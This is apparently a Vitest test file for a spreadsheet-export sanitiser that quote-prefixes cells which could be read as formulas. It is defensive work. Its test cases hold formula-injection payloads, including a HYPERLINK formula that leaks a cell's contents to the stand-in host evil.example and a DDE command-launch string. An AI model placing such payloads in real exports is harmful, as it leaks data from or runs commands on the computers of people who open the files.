import { describe, expect, it } from "vitest";
import { neutraliseFormula, safeRows } from "@/lib/export/spreadsheet-safety";

describe("neutraliseFormula", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")',
      `'=HYPERLINK("http://evil.example/?leak="&A1, "Click me")`,
    ],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ["+1", "'+1"],
    ["-2", "'-2"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\0=1+1", "'\0=1+1"],
  ])("prefixes %j with a quote", (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it.each([
    "WS-ACME-01",
    "acme-laptop-7",
    "Contoso Ltd",
    "a=b",
    "1+1",
    "",
    " =1",
    "'=already quoted",
    "Müller & Söhne",
  ])("leaves plain text %j untouched", (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });

  it("leaves numbers and empty cells untouched, negative numbers included", () => {
    expect(neutraliseFormula(42)).toBe(42);
    expect(neutraliseFormula(0)).toBe(0);
    expect(neutraliseFormula(-2)).toBe(-2);
    expect(neutraliseFormula(null)).toBeNull();
  });
});

describe("safeRows", () => {
  it("yields the header first, then every row, each cell neutralised", async () => {
    const rows = [];
    for await (const row of safeRows(
      ["Host", "=Count"],
      [
        ["=evil", 3],
        ["fine", -1],
      ],
    ))
      rows.push(row);
    expect(rows).toEqual([
      ["Host", "'=Count"],
      ["'=evil", 3],
      ["fine", -1],
    ]);
  });
});
